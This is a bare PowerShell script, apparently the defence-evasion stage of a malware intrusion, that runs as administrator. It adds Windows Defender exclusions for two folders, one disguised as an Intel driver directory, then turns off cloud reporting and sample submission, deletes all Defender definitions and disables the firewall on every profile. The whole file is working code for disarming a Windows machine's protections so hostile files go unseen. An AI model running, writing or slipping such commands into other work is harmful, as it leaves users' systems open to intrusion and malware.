#Requires -RunAsAdministrator
$paths = @("$env:ProgramData\Intel\Drivers", "$env:LOCALAPPDATA\Temp\tools")
foreach ($p in $paths) {
    Set-MpPreference -ExclusionPath $p -Force
}
Set-MpPreference -MAPSReporting 0
Set-MpPreference -SubmitSamplesConsent 2
& "$env:ProgramFiles\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All

netsh firewall set opmode mode=disable
Set-NetFirewallProfile -Profile Domain, Private, Public -Enabled False
